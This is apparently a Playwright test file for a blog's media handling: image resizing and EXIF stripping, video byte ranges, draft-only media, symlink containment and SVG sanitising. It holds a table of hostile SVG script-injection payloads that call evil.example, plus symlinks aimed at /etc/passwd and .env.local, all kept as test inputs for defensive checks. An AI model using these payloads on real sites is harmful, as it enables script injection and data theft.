// This file is long because its tests share photographs, which are slow to encode.
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { test as base, expect, type Page } from '@playwright/test'
import { sharp } from '../lib/markdown/media/sharp'
import { safeSvg } from '../lib/markdown/media/svg'
import { readRange } from '../lib/server/conditions'
import { mediaPolicy } from '../lib/server/policies.mjs'
import { mediaAnswer } from '../lib/server/send-file'
import type { Manifest } from '../lib/store/manifest'
import { refusedInPublic } from '../lib/store/symlinks'
import type { Body } from '../lib/store/types'
import { filesIn } from '../scripts/verify/copy'
import { compileIn, writeBlog } from './compile'
import { ownDrawings } from './own-files'
import { kinds } from './pages'
import { ask, signIn, startServer } from './server'

const photo = 'e2e/content/posts/frontend/pictures/photo.jpg'
const clip = 'e2e/content/posts/frontend/pictures/clip.webm'
const post = (body: string, more = '') => `---\ntitle: T\ndate: 2026-01-01\n${more}---\n\n${body}\n`
const steal = "fetch('https://evil.example/x');alert(1)"
const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30"${attributes}>${inside}</svg>`

/** SVG files that run a script or load a file when they are opened by themselves. */
const hostile: Record<string, string> = {
  script: svg(`<script>${steal}</script>`),
  'script by address': svg(`<script xlink:href="data:text/javascript,${encodeURIComponent(steal)}"/>`),
  'script of another namespace': svg(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">${steal}</x:script>`),
  onload: svg('', ` onload="${steal}"`),
  'onload of a part': svg(`<image href="data:image/png;base64,x" onerror="${steal}"/>`),
  'onbegin of an animation': svg(`<rect><animate attributeName="x" dur="1s" onbegin="${steal}"/></rect>`),
  'page in the drawing': svg(
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${steal}"/></body></foreignObject>`,
  ),
  frame: svg(
    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${steal}&lt;/script&gt;"/></foreignObject>`,
  ),
  'script by an entity': `<!DOCTYPE svg [<!ENTITY x "<script>${steal}</script>">]>${svg('&x;')}`,
  'style sheet elsewhere': svg('<style>@import "https://evil.example/a.css";</style><rect width="9" height="9"/>'),
  'picture elsewhere': svg('<image href="https://evil.example/a.png" width="9" height="9"/>'),
  'paint elsewhere': svg('<rect width="9" height="9" style="fill:url(https://evil.example/a.svg#x)"/>'),
  'paint by escapes': svg('<style>rect{fill:u\\72l(https://evil.example/b.svg#x)}</style><rect width="9" height="9"/>'),
  'part elsewhere': svg('<use href="https://evil.example/a.svg#x"/>'),
  'style sheet by an instruction': `<?xml-stylesheet href="https://evil.example/c.css"?>${svg('<rect width="9" height="9"/>')}`,
  'handler that is set': svg(`<rect width="9" height="9"><set attributeName="onclick" to="${steal}"/></rect>`),
}

type Compiled = { status: number; said: string[]; manifest: () => Manifest; html: (slug: string) => string }
type Blog = {
  content: string
  store: string
  compile: () => Promise<Compiled>
  write: (files: Record<string, string>) => void
}

const test = base.extend<{ blog: Blog }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright wants the pattern.
  blog: async ({}, use) => {
    const folder = mkdtempSync(path.join(tmpdir(), 'galley-'))
    const [content, store] = [path.join(folder, 'content'), path.join(folder, 'store')]
    const compile = async () => {
      const { status, said: lines } = await compileIn(content, store)
      const manifest = (): Manifest => JSON.parse(readFileSync(path.join(store, 'manifest.json'), 'utf8'))
      const html = (slug: string) => {
        const entry = manifest().posts.find((one) => one.slug === slug)
        return (JSON.parse(readFileSync(path.join(store, 'bodies', `${entry?.body}.json`), 'utf8')) as Body).html
      }
      const said = lines.flatMap((line) => (line.startsWith('content/') ? line.slice('content/'.length) : []))
      return { status, said, manifest, html }
    }
    await use({ content, store, compile, write: (files) => writeBlog(content, files) })
    rmSync(folder, { recursive: true })
  },
})
test.describe.configure({ timeout: 120_000 })

test('a photograph comes in modern formats and several sizes, kept for a while, and without what its camera said', async ({
  page,
  request,
}) => {
  expect((await sharp(photo).metadata()).exif?.toString('latin1')).toContain('Quincewhistle')
  await page.goto(kinds['post with pictures'])
  const image = page.getByRole('img', { name: 'Colours without a shape' })
  await expect(image).toHaveAttribute('width', '1400')
  await expect(image).toHaveAttribute('height', '900')
  const sources = page.locator('picture', { has: image }).locator('source')
  const sets = await sources.evaluateAll((all: HTMLSourceElement[]) =>
    all.map(({ srcset, type }) => ({ srcset, type })),
  )
  expect(sets.map(({ type }) => type)).toEqual(['image/avif', 'image/webp'])
  const original = statSync(photo).size
  for (const { srcset, type } of [...sets, { srcset: await image.getAttribute('src'), type: 'image/jpeg' }]) {
    const widths: number[] = []
    for (const candidate of srcset?.split(', ') ?? []) {
      const [address = '', width = '1400w'] = candidate.split(' ')
      const answer = await request.get(address)
      expect(answer.headers()).toMatchObject({
        'content-type': type,
        'cache-control': 'public, max-age=600, s-maxage=60, must-revalidate',
      })
      const bytes = await answer.body()
      const facts = await sharp(bytes).metadata()
      expect(`${facts.width}w`).toBe(width)
      expect(facts.exif).toBeUndefined()
      expect(bytes.toString('latin1')).not.toContain('Quincewhistle')
      if (type !== 'image/jpeg') expect(bytes.length).toBeLessThan(original)
      widths.push(facts.width)
    }
    expect(widths).toEqual(type === 'image/jpeg' ? [1400] : [480, 800, 1200, 1400])
  }
  await image.scrollIntoViewIfNeeded()
  await expect.poll(() => image.evaluate((one: HTMLImageElement) => one.currentSrc)).toMatch(/\.avif$/)
  await expect(image).toHaveJSProperty('complete', true)

  await test.step('the first picture is fetched at once and first, the others when they are near, those of other sites without a referrer', async () => {
    const first = page.getByRole('img', { name: 'A red dot' })
    await expect(first).toHaveAttribute('fetchpriority', 'high')
    await expect(first).not.toHaveAttribute('loading')
    for (const name of ['Colours without a shape', 'Three colours in turn', 'A red sheet']) {
      await expect(page.getByRole('img', { name })).toHaveAttribute('loading', 'lazy')
      await expect(page.getByRole('img', { name })).not.toHaveAttribute('fetchpriority')
    }
    const far = page.getByRole('img', { name: 'A picture of another site' })
    await expect(far).toHaveAttribute('src', 'https://pictures.example/far.png')
    await expect(far).toHaveAttribute('loading', 'lazy')
    await expect(far).toHaveAttribute('referrerpolicy', 'no-referrer')
  })

  await test.step('a moving picture moves, and stands still for who wants less motion', async () => {
    const moving = page.getByRole('img', { name: 'Three colours in turn' })
    const shown = () => moving.evaluate((one: HTMLImageElement) => one.currentSrc)
    const frames = async () => (await sharp(await (await request.get(await shown())).body()).metadata()).pages ?? 1
    await moving.scrollIntoViewIfNeeded()
    await expect.poll(shown).toMatch(/\/moving\.gif$/)
    expect(await frames()).toBe(3)
    await page.emulateMedia({ reducedMotion: 'reduce' })
    await expect.poll(shown).toMatch(/\/moving-still\.png$/)
    expect(await frames()).toBe(1)
  })
})

test('a wide picture leaves the column, and no page scrolls sideways for it', async ({ page }) => {
  await page.goto(kinds['post with pictures'])
  const measure = async (width: number) => {
    await page.setViewportSize({ width, height: 800 })
    const box = (selector: string) =>
      page
        .locator(selector)
        .evaluate((one) => ({ left: one.getBoundingClientRect().left, right: one.getBoundingClientRect().right }))
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(width)
    return {
      wide: await box('figure.wide'),
      column: await box('.prose'),
      sheet: await box('main.sheet, main .sheet, .sheet:has(.prose)'),
    }
  }
  const phone = await measure(600)
  expect(phone.wide).toEqual(phone.column)
  const tablet = await measure(1000)
  expect(tablet.wide).toEqual(tablet.column)
  const desk = await measure(1400)
  expect(desk.wide.left).toBe(desk.column.left)
  expect(desk.wide.right).toBe(desk.sheet.right)
  expect(desk.wide.right - desk.wide.left).toBe(992)
})

test('a film plays, may be asked for in parts, and is a link where it cannot', async ({ page, baseURL: site = '' }) => {
  await page.goto(kinds['post with pictures'])
  const film = page.getByLabel('Colours that change')
  await expect(page.getByRole('figure').filter({ has: film })).toContainText('The film')
  const address = (await film.getAttribute('src')) ?? ''
  expect(address).toMatch(/^\/video\/\w{12}\/clip\.webm$/)
  await expect(film.locator('a')).toHaveAttribute('href', address)
  await film.scrollIntoViewIfNeeded()
  await film.evaluate((one: HTMLVideoElement) => {
    one.muted = true
    return one.play()
  })
  await expect.poll(() => film.evaluate((one: HTMLVideoElement) => one.currentTime)).toBeGreaterThan(0)

  const bytes = readFileSync(clip)
  const { length } = bytes
  const part = async (range?: string, more = {}, method = 'GET') => {
    const answer = await fetch(`${site}${address}`, { method, headers: { ...(range ? { range } : {}), ...more } })
    return { status: answer.status, headers: answer.headers, body: Buffer.from(await answer.arrayBuffer()) }
  }
  const whole = await part()
  expect(whole.status).toBe(200)
  expect(whole.body.equals(bytes)).toBe(true)
  expect(whole.headers.get('accept-ranges')).toBe('bytes')
  expect(whole.headers.get('content-type')).toBe('video/webm')
  expect(whole.headers.get('cache-control')).toBe('public, max-age=600, s-maxage=60, must-revalidate')
  const tag = whole.headers.get('etag') ?? ''
  for (const [range, first, last] of [
    ['bytes=0-1', 0, 1],
    [`bytes=${length - 1}-`, length - 1, length - 1],
    ['bytes=100-99999999', 100, length - 1],
    ['bytes=-10', length - 10, length - 1],
    ['bytes=-99999999', 0, length - 1],
  ] as const) {
    const { status, headers, body } = await part(range, { 'if-range': tag })
    expect(status, range).toBe(206)
    expect(headers.get('content-range')).toBe(`bytes ${first}-${last}/${length}`)
    expect(headers.get('content-length')).toBe(String(last - first + 1))
    expect(body.equals(bytes.subarray(first, last + 1))).toBe(true)
  }
  for (const range of [`bytes=${length}-`, 'bytes=-0']) {
    const { status, headers, body } = await part(range)
    expect(status, range).toBe(416)
    expect(headers.get('content-range')).toBe(`bytes */${length}`)
    expect(body.length).toBe(0)
  }
  for (const range of ['bytes=9-3', 'bytes=0-1,5-6', 'lines=1-2', 'bytes=-', 'bytes=a-b', 'bytes'])
    expect((await part(range)).status, range).toBe(200)
  expect((await part('bytes=0-1', { 'if-range': '"older"' })).status).toBe(200)
  const head = await part('bytes=0-1', {}, 'HEAD')
  expect([head.status, head.headers.get('content-length'), head.body.length]).toEqual([200, String(length), 0])
  for (const wrong of ['/video/000000000000/clip.webm', `${address}x`, address.replace('/video/', '/media/')])
    expect((await fetch(`${site}${wrong}`)).status, wrong).toBe(404)
})

test('a range is read as RFC 9110 §14.1.2 has it', () => {
  expect(readRange('bytes=0-', 0)).toBe('unsatisfiable')
  expect(readRange('bytes=-5', 0)).toBe('unsatisfiable')
  expect(readRange('BYTES= 2-4', 10)).toEqual({ start: 2, end: 4 })
  expect(readRange('bytes=9-9', 10)).toEqual({ start: 9, end: 9 })
  expect(readRange('bytes=10-10', 10)).toBe('unsatisfiable')
  expect(readRange('bytes=1-2, 4-5', 10)).toBeUndefined()
})

test('what is of no known type can only be saved, and a PDF is shown', async ({ blog }) => {
  blog.write({ 'a.pdf': '%PDF', 'a.html': '<script>1</script>', 'a.txt': 'x' })
  const answer = async (name: string) =>
    (await mediaAnswer(path.join(blog.content, name), { name, tag: 'x', cacheControl: 'no-store' })).headers
  expect((await answer('a.pdf')).get('content-disposition')).toMatch(/^inline/)
  expect((await answer('a.txt')).get('content-disposition')).toMatch(/^inline/)
  const page = await answer('a.html')
  expect(page.get('content-disposition')).toMatch(/^attachment/)
  expect(page.get('content-type')).toBe('application/octet-stream')
  expect(page.get('content-security-policy')).toMatch(/sandbox/)
})

test('pictures of a draft, in every size, are for editors only, and in no public file', async ({
  page,
  baseURL: site = '',
}) => {
  const { posts }: Manifest = JSON.parse(readFileSync('.contentlayer/e2e/manifest.json', 'utf8'))
  const pictures = posts.find(({ slug }) => slug === 'backend/draft')?.pictures ?? []
  expect(pictures).toHaveLength(8)
  const session = await signIn(site)
  for (const { src } of pictures) {
    const locked = src.replace(/^\/(media|video)\//, '/api/draft-media/')
    for (const address of [src, locked]) {
      const stranger = await ask(site, address)
      expect(stranger.status, address).toBe(404)
      expect(stranger.headers['content-type']).toMatch(/^text\/(html|plain)/)
    }
    const shown = await ask(site, locked, { headers: { cookie: session } })
    expect(shown.status, locked).toBe(200)
    expect(shown.headers['content-type']).toMatch(/^(image\/(avif|webp|jpeg)|video\/webm)$/)
    expect(shown.headers['cache-control']).toBe('private, no-store')
  }
  const film = pictures.find(({ src }) => src.startsWith('/video/'))?.src.replace('/video/', '/api/draft-media/') ?? ''
  const part = await ask(site, film, { headers: { cookie: session, range: 'bytes=0-3' } })
  expect([part.status, part.headers['content-length']]).toEqual([206, '4'])

  const [name = '', value = ''] = session.split('=')
  await page.context().addCookies([{ name, value, url: site }])
  await page.goto('/drafts/backend/draft')
  const image = page.getByRole('img', { name: 'Fernickle photograph' })
  await expect
    .poll(() => image.evaluate((one: HTMLImageElement) => one.currentSrc))
    .toMatch(/\/api\/draft-media\/.*\.avif$/)
  expect(await image.evaluate((one: HTMLImageElement) => one.naturalWidth)).toBeGreaterThan(0)
  expect(await page.content()).not.toMatch(/["\s]\/(media|video)\//)

  const told = ['vellichor', 'Fernickle', 'Squirrelbright', pictures[0]?.src.split('/')[2] ?? '']
  const built = [...filesIn('public'), ...filesIn('.next-e2e')].filter(
    (file) => !/\/(cache|dev|trace[^/]*)(\/|$)/.test(file),
  )
  const telling = built.flatMap((file) => {
    const content = `${file}\n${readFileSync(file, 'latin1')}`
    return told.filter((word) => content.includes(word)).map((word) => `${word} in ${file}`)
  })
  expect(telling).toEqual([])
  expect(readdirSync('.contentlayer/e2e/media').join()).not.toContain(told[3])
})

test('a picture without words is counted as decoration, and the checks say so by file and line', async ({ blog }) => {
  blog.write({
    'posts/a.md': post(
      '![](./p.svg)\n\n<img src="./p.svg">\n\n<img src="./p.svg" alt="">\n\n![Words](./p.svg)\n\n![](https://far.example/x.png)\n\n![](./c.mp4)',
    ),
    'posts/p.svg': svg('<rect width="9" height="9"/>'),
    'posts/c.mp4': 'x',
  })
  const { said, status } = await blog.compile()
  expect(status).toBe(0)
  expect(said).toEqual([
    'posts/a.md:6: the picture ./p.svg has no description, and is counted as decoration. Write it between the brackets: ![what it shows](./p.svg). (warning)',
    'posts/a.md:8: the picture ./p.svg has no description. Write alt="what it shows", or alt="" for decoration. (warning)',
    'posts/a.md:14: the picture https://far.example/x.png has no description, and is counted as decoration. Write it between the brackets: ![what it shows](https://far.example/x.png). (warning)',
    'posts/a.md:16: the film or sound ./c.mp4 has no description, and is counted as decoration. Write it between the brackets: ![what it shows](./c.mp4). (warning)',
  ])
})

test('a file that is no picture, or is not there, is an error by file and line', async ({ blog }) => {
  blog.write({
    'posts/a.md': post('![A](./a.png)\n\n![B](./b.jpg)\n\n![C](./c.svg)\n\n![D](./d.mp4)\n\n![E](/no/e.png)'),
    'posts/a.png': 'no picture',
    'posts/c.svg': '<html/>',
  })
  writeFileSync(path.join(blog.content, 'posts/b.jpg'), readFileSync(photo).subarray(0, 9000))
  const { said, status } = await blog.compile()
  expect(status).toBe(1)
  const remedy = 'is not a picture that can be read. Save it anew as JPEG, PNG, WebP, AVIF, GIF or SVG.'
  expect(said).toEqual([
    `posts/a.md:6: ./a.png ${remedy}`,
    `posts/a.md:8: ./b.jpg ${remedy}`,
    `posts/a.md:10: ./c.svg ${remedy}`,
    'posts/a.md:12: there is no film ./d.mp4. Put it at content/posts/d.mp4, or mend the name.',
    'posts/a.md:14: there is no picture /no/e.png. Put it at public/no/e.png, or mend the name.',
  ])
})

test('no picture, film or cover comes from outside of the content folder and public/, by dots or by a link', async ({
  blog,
}) => {
  const above = path.relative(path.join(blog.content, 'posts'), path.resolve('docs/pictures/front-light.png'))
  const clear = svg('<rect width="9" height="9"/>')
  blog.write({
    'posts/a.md': post(
      `![A](/../docs/pictures/front-light.png)\n\n![B](${above})\n\n![C](out.svg)\n\n![D](/../film.mp4)\n\n[E](out.svg)\n\n![F](in.svg)`,
      'images: [../../outside.svg]\n',
    ),
    'posts/own.svg': clear,
    '../outside.svg': clear,
  })
  symlinkSync(path.join(blog.content, '../outside.svg'), path.join(blog.content, 'posts/out.svg'))
  symlinkSync('own.svg', path.join(blog.content, 'posts/in.svg'))
  const { said, status } = await blog.compile()
  expect(status).toBe(1)
  const remedy =
    'is neither in the content folder nor in public/. Put the file itself into one of them, and write its path.'
  expect(said.sort()).toEqual(
    [
      `posts/a.md:4: ../../outside.svg ${remedy}`,
      `posts/a.md:7: /../docs/pictures/front-light.png ${remedy}`,
      `posts/a.md:9: ${above} ${remedy}`,
      `posts/a.md:11: out.svg ${remedy}`,
      `posts/a.md:13: /../film.mp4 ${remedy}`,
      `posts/a.md:15: out.svg ${remedy}`,
    ].sort(),
  )
})

test('what a link of the file system leads to decides whether it is served or compiled', async ({ blog }) => {
  const secret = '---\ntitle: Secret\ndate: 2026-01-01\ndraft: true\n---\n\nQuillfeather.\n'
  blog.write({
    'posts/open.md': post(
      [
        '![A](film.mp4)',
        '[B](notes.txt)',
        '![C](far/x.png)',
        '[D](env.txt)',
        '[E](hidden.txt)',
        '![F](beside.svg)',
        '<video src="poster.mp4" poster="passwd.png"></video>',
        '[G](nowhere.pdf)',
        '[H](circle.pdf)',
        '![I](circle-1/own.svg)',
      ].join('\n\n'),
    ),
    'posts/code.mdx': post("import data from './data.json'\n\n{data.length}"),
    'posts/nested.mdx': post("import { far } from './near'\n\n{far}"),
    'posts/near.ts': "export { far } from './far'\n",
    'posts/secret.md': secret,
    'posts/secret/picture.svg': svg('<rect width="9" height="9"/>'),
    'posts/own.svg': svg('<rect width="9" height="9"/>'),
    '.env.local': 'SECRET=Quillfeather',
    '.trash/note.txt': 'Quillfeather',
    '../elsewhere/post.md': post('Quillfeather.'),
    '../elsewhere/data.json': '[1]',
    '../elsewhere/far.ts': 'export const far = "Quillfeather"\n',
    '../elsewhere/x.png': 'x',
  })
  const links: Record<string, string> = {
    'film.mp4': 'secret.md',
    'notes.txt': 'secret.md',
    far: '../../elsewhere',
    'env.txt': '../.env.local',
    'hidden.txt': '../.trash/note.txt',
    'beside.svg': 'secret/picture.svg',
    'poster.mp4': '../../elsewhere/x.png',
    'passwd.png': '/etc/passwd',
    'nowhere.pdf': 'no.pdf',
    'circle.pdf': 'circle.pdf',
    'circle-1': '.',
    'circle-2': '../posts',
    'data.json': '../../elsewhere/data.json',
    'far.ts': '../../elsewhere/far.ts',
    'abroad.md': '../../elsewhere/post.md',
    'again.md': 'secret.md',
    'gone.md': 'no.md',
  }
  for (const [name, to] of Object.entries(links)) symlinkSync(to, path.join(blog.content, 'posts', name))
  const { said, status } = await blog.compile()
  expect(status).toBe(1)
  const outside = 'is neither in the content folder nor in public/.'
  const link = (why: string) => `1: this link of the file system ${why}, and is not followed.`
  const begun = said.map((line) => line.split(' Put the file')[0]).sort()
  expect(begun.filter((line) => !line?.includes('no description'))).toEqual(
    [
      'posts/open.md:6: film.mp4 leads to the source of a document. Link to the document, or put the file itself there.',
      'posts/open.md:8: notes.txt leads to the source of a document. Link to the document, or put the file itself there.',
      `posts/open.md:10: far/x.png ${outside}`,
      'posts/open.md:12: env.txt leads to what is hidden by a dot.',
      'posts/open.md:14: hidden.txt leads to what is hidden by a dot.',
      `posts/open.md:18: poster.mp4 ${outside}`,
      `posts/open.md:18: passwd.png ${outside}`,
      'posts/open.md:20: there is nothing at nowhere.pdf. Mend the address, or remove the link.',
      'posts/open.md:22: there is nothing at circle.pdf. Mend the address, or remove the link.',
      'posts/code.mdx:6: MDX cannot read this: ./data.json leads out of the content folder, or to what is hidden by a dot.',
      'posts/nested.mdx:6: MDX cannot read this: near.ts: ./far leads out of the content folder, or to what is hidden by a dot.',
      `posts/far:${link('leads out of the content folder')}`,
      `posts/circle-1:${link('leads to a folder that it is in')}`,
      `posts/circle-2:${link('leads to a folder that it is in')}`,
      `posts/abroad.md:${link('leads out of the content folder')}`,
      `posts/gone.md:${link('leads to nothing')}`,
    ].sort(),
  )

  // A symlink to a draft is a draft too. Any post may show a picture beside a draft, by its path or through a symlink.
  for (const name of Object.keys(links))
    if (!/^(again\.md|beside\.svg)$/.test(name)) rmSync(path.join(blog.content, 'posts', name))
  for (const name of ['posts/code.mdx', 'posts/nested.mdx']) rmSync(path.join(blog.content, name))
  blog.write({ 'posts/open.md': post('![F](beside.svg)\n\n![G](secret/picture.svg)') })
  const { status: after, manifest } = await blog.compile()
  expect(after).toBe(0)
  const { posts } = manifest()
  expect(posts.map(({ slug, draft, pictures }) => [slug, draft, pictures.length]).sort()).toEqual([
    ['again', true, 0],
    ['open', false, 2],
    ['secret', true, 0],
  ])
})

test('links behind links and circles of two are found, and a link to a folder of drafts publishes none', async ({
  blog,
}) => {
  blog.write({
    'posts/a/one.md': post('One.'),
    'posts/b/two.md': post('Two.'),
    'shared/three.md': post('Three.'),
    '_drafts/secret.md': post('Quillfeather.'),
  })
  const link = (name: string, to: string) => symlinkSync(to, path.join(blog.content, name))
  link('posts/a/x', '../b')
  link('posts/b/y', '../a')
  link('posts/sh', '../shared')
  link('shared/out.md', '/etc/hostname')
  link('shared/up', '..')
  const { said, status } = await blog.compile()
  expect(status).toBe(1)
  expect(said.filter((line) => line.includes('this link')).map((line) => line.split(', and is not')[0])).toEqual([
    'posts/a/x/y:1: this link of the file system leads to a folder that it is in',
    'posts/b/y/x:1: this link of the file system leads to a folder that it is in',
    'posts/sh/out.md:1: this link of the file system leads out of the content folder',
    'posts/sh/up:1: this link of the file system leads to a folder that it is in',
  ])
  for (const name of ['posts/a/x', 'posts/b/y', 'shared/out.md', 'shared/up']) rmSync(path.join(blog.content, name))
  link('posts/leak.md', '../_drafts/secret.md')
  link('posts/x', '../_drafts')
  const { manifest } = await blog.compile()
  expect(
    manifest()
      .posts.filter(({ draft }) => !draft)
      .map(({ slug }) => slug)
      .sort(),
  ).toEqual(['a/one', 'b/two', 'sh/three'])
})

test('a content folder may be a link itself', async ({ blog }) => {
  blog.write({
    '../real/posts/a.md': post('![A](./x.svg)'),
    '../real/posts/x.svg': svg('<rect width="9" height="9"/>'),
  })
  blog.write({ '../real/authors/default.md': '---\nname: Ada\n---\n' })
  rmSync(blog.content, { recursive: true })
  symlinkSync('real', blog.content)
  const { said, html } = await blog.compile()
  expect(said).toEqual([])
  expect(html('a')).toContain('/media/')
})

test('a link in public/ leads to the words, to what is hidden, or out of the project: it is refused', () => {
  const project = mkdtempSync(path.join(tmpdir(), 'galley-'))
  for (const folder of ['public/sub', 'content/posts', 'docs', 'assets', 'node_modules/pack'])
    mkdirSync(path.join(project, folder), { recursive: true })
  for (const file of ['.env.local', 'content/posts/a.md', 'docs/a.png', 'public/own.png'])
    writeFileSync(path.join(project, file), 'x')
  const links: Record<string, string> = {
    'own-2.png': 'own.png',
    'docs.png': '../docs/a.png',
    pack: '../node_modules/pack',
    words: '../content',
    'sub/a.txt': '../../content/posts/a.md',
    'sub/all': '../..',
    env: '../.env.local',
    passwd: '/etc/passwd',
    nothing: 'no',
    a: '../assets',
  }
  for (const [name, to] of Object.entries(links)) symlinkSync(to, path.join(project, 'public', name))
  symlinkSync('../content/posts', path.join(project, 'assets/b'))
  symlinkSync('../public', path.join(project, 'assets/c'))
  const refused = refusedInPublic(project, path.join(project, 'content'))
  expect(refused.map(({ link, why }) => `${path.relative(path.join(project, 'public'), link)} ${why}`).sort()).toEqual([
    'a/b leads to the content folder',
    'a/c leads to a folder that it is in',
    'env leads to what is hidden by a dot',
    'nothing leads to nothing',
    'passwd leads out of the project',
    'sub/a.txt leads to the content folder',
    'sub/all leads to the content folder',
    'words leads to the content folder',
  ])
  rmSync(project, { recursive: true })
})

test('pictures of every kind get what they need, and no more', async ({ blog }) => {
  const shared = [...ownDrawings.inPublic, ...ownDrawings.inApp]
  const colour = { r: 200, g: 100, b: 50 }
  const flat = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: colour } })
  const posts = path.join(blog.content, 'posts')
  blog.write({
    'posts/a.md': post(
      [
        '![Turned](turned.jpg)',
        '![Clear](clear.png)',
        '![Grey](grey.png)',
        '![Wide](big.jpg "A *title*"){.wide}',
        ':::wide\n![In a wide block](big.jpg)\n:::',
        '[![In a link](turned.jpg "Linked")](https://example.com/)',
        'Text ![inline](turned.jpg "tip") text.',
        '<img src="turned.jpg" alt="Narrow" width="30">',
        '<img src="turned.jpg" alt="Share" width="50%">',
        '<video src="./film.mp4" poster="./turned.jpg" width="320" height="180" controls></video>',
        '<picture><source srcset="./clear.png 2x" media="(prefers-color-scheme: dark)"><img src="turned.jpg" alt="Two themes"></picture>',
        '![A song](song.mp3)',
        ...shared.map((address) => `![From ${address}](${address})`),
        '![Far film](https://far.example/a.mp4)',
      ].join('\n\n'),
      'images: [drawing.svg]\n',
    ),
    'posts/drawing.svg': svg('<rect width="40" height="30" fill="red"/>'),
    'posts/film.mp4': 'film',
    'posts/song.mp3': 'song',
  })
  blog.write({ 'posts/m.mdx': post('![Alone](./clear.png)\n\n<b>And</b> <img src="./clear.png" alt="raw" />') })
  await flat(60, 40).jpeg().withMetadata({ orientation: 6 }).toFile(path.join(posts, 'turned.jpg'))
  await sharp({ create: { width: 700, height: 500, channels: 4, background: { ...colour, alpha: 0.5 } } })
    .png()
    .toFile(path.join(posts, 'clear.png'))
  await flat(50, 50).greyscale().toColourspace('b-w').png().toFile(path.join(posts, 'grey.png'))
  await sharp(photo).resize(2200, 300).jpeg().toFile(path.join(posts, 'big.jpg'))
  const { html, manifest, status, said } = await blog.compile()
  expect(said).toEqual([])
  expect(status).toBe(0)
  const text = html('a')
  const tag = (alt: string) => new RegExp(`<img[^>]*alt="${alt}"[^>]*>`).exec(text)?.[0] ?? ''
  const figure = (alt: string) => text.split(/(?=<figure)/).find((one) => one.includes(`"${alt}"`)) ?? ''
  // The picture is turned the right way up, and its average colour is the background while the file loads.
  expect(tag('Turned')).toMatch(/src="\/media\/\w{12}\/turned\.jpg".* width="40" height="60" class="s\w+"/)
  expect(tag('Clear')).not.toContain('class=')
  expect(tag('Clear')).toContain('clear.png"')
  expect(tag('Grey')).toContain('grey.png"')
  expect(figure('Wide')).toMatch(
    /^<figure class="wide"><picture>.*big-1984\.avif 1984w.*sizes="\(min-width: 1032px\) 992px.*<figcaption>A \*title\*<\/figcaption><\/figure>/,
  )
  expect(figure('In a wide block')).toMatch(/^<figure><picture>.*big-1984\.avif 1984w/)
  expect(figure('In a link')).toMatch(/^<figure><a href="https:\/\/example\.com\/"[^>]*><img.*<\/a><figcaption>Linked/)
  expect(text).toMatch(/<p>Text <img[^>]*title="tip"[^>]*> text\.<\/p>/)
  expect(tag('Narrow')).toMatch(/ width="30" .* height="45"/)
  expect(tag('Share')).toMatch(/ width="40" .* height="60"/)
  expect(text).toMatch(
    /<video src="\/video\/\w{12}\/film\.mp4" poster="\/media\/\w{12}\/turned\.jpg" width="320" height="180" controls>/,
  )
  expect(text).toMatch(
    /<picture><source srcset="\/media\/\w{12}\/clear\.png 2x" media="[^"]*"><img[^>]*alt="Two themes"[^>]*><\/picture>/,
  )
  expect(text).toMatch(/<audio src="\/video\/\w{12}\/song\.mp3" controls preload="metadata" aria-label="A song">/)
  for (const address of shared) expect(tag(`From ${address}`)).toMatch(/src="\/media\/\w{12}\/[^"]+\.svg"/)
  expect(text).toMatch(/<video src="https:\/\/far\.example\/a\.mp4" controls preload="none"/)
  expect(text).not.toContain('{.wide}')
  expect(html('m')).toMatch(/^<figure><img src="\/media\/\w{12}\/clear\.png" alt="Alone"/)
  expect(html('m')).not.toMatch(/<link|"\.\/clear/)
  const entry = manifest().posts.find(({ slug }) => slug === 'a')
  expect(entry?.cover).toMatchObject({ width: 1200, height: 900, src: expect.stringMatching(/drawing-cover\.png$/) })
  for (const { file } of entry?.pictures ?? [])
    expect(statSync(path.join(blog.store, 'pictures', file)).size).toBeGreaterThan(0)
})

test('a second compilation makes no picture anew, and one that is lost is made again', async ({ blog }) => {
  blog.write({ 'posts/a.md': post('![A photograph](photo.jpg)') })
  await sharp(photo).resize(1000).toFile(path.join(blog.content, 'posts/photo.jpg'))
  const pictures = path.join(blog.store, 'pictures')
  const made = () =>
    Object.fromEntries(readdirSync(pictures).map((name) => [name, statSync(path.join(pictures, name)).ino]))
  const before = (await blog.compile()).html('a')
  const first = made()
  expect(Object.keys(first)).toHaveLength(8)
  rmSync(path.join(blog.store, 'bodies'), { recursive: true })
  expect((await blog.compile()).html('a')).toBe(before)
  expect(made()).toEqual(first)
  const lost = Object.keys(first).find((name) => name.endsWith('-800.avif')) ?? ''
  rmSync(path.join(pictures, lost))
  expect((await blog.compile()).html('a')).toBe(before)
  expect(Object.keys(made())).toEqual(Object.keys(first))
  expect(made()[lost.replace('800', '480')]).toBe(first[lost.replace('800', '480')])
})

test('a drawing keeps its shapes, its size and its own colours', async () => {
  const text = svg(
    '<defs><linearGradient id="g"><stop stop-color="red"/></linearGradient></defs><style>.a{fill:url(#g)}</style><path class="a" d="M0.123456,7L1 2z" style="stroke:blue"/><text x="1">a &lt; b  c</text><use xlink:href="#g"/>',
  )
  const { bytes } = await safeSvg(text)
  for (const part of [
    '.a{fill:url(#g)}',
    'd="M0.123456,7L1 2z"',
    'style="stroke:blue"',
    'a &lt; b  c',
    'xlink:href="#g"',
  ])
    expect(bytes.toString()).toContain(part)
  const size = async (attributes: string) => {
    const { width, height } = await safeSvg(`<svg xmlns="http://www.w3.org/2000/svg" ${attributes}/>`)
    return `${width}x${height}`
  }
  expect(await size('viewBox="0 0 20 10"')).toBe('20x10')
  expect(await size('width="1in" height="10mm"')).toBe('96x38')
  expect(await size('width="100" viewBox="0 0 20 10"')).toBe('100x50')
  expect(await size('width="100%" height="100%" viewBox="0,0,30,10"')).toBe('30x10')
  expect(await size('')).toBe('300x150')
